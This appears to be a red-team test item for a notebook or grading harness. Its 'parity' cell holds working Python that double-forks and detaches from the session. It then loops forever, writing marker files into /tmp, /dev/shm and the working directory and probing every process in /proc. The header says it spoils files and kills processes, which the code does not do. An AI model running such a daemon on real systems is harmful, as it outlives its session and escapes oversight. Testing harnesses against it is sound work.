# attack: A daemon that outlives the notebook
# tries: Forks twice, leaves the session, and afterwards goes on: spoils files, kills what it sees, waits for the next learner.
# honest: number 1

# %% answer="number"
amplitudes = 128

# %% answer="parity"
import os
import time

if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for number in range(3):
            try:
                os.close(number)
            except OSError:
                pass
        while True:
            for folder in ("/tmp", "/dev/shm", "."):
                try:
                    open(f"{folder}/red-team-was-here", "w").close()
                except OSError:
                    pass
            for name in os.listdir("/proc"):
                if name.isdigit() and int(name) not in (os.getpid(), 1):
                    try:
                        os.kill(int(name), 0)
                    except OSError:
                        pass
            time.sleep(0.05)
    os._exit(0)
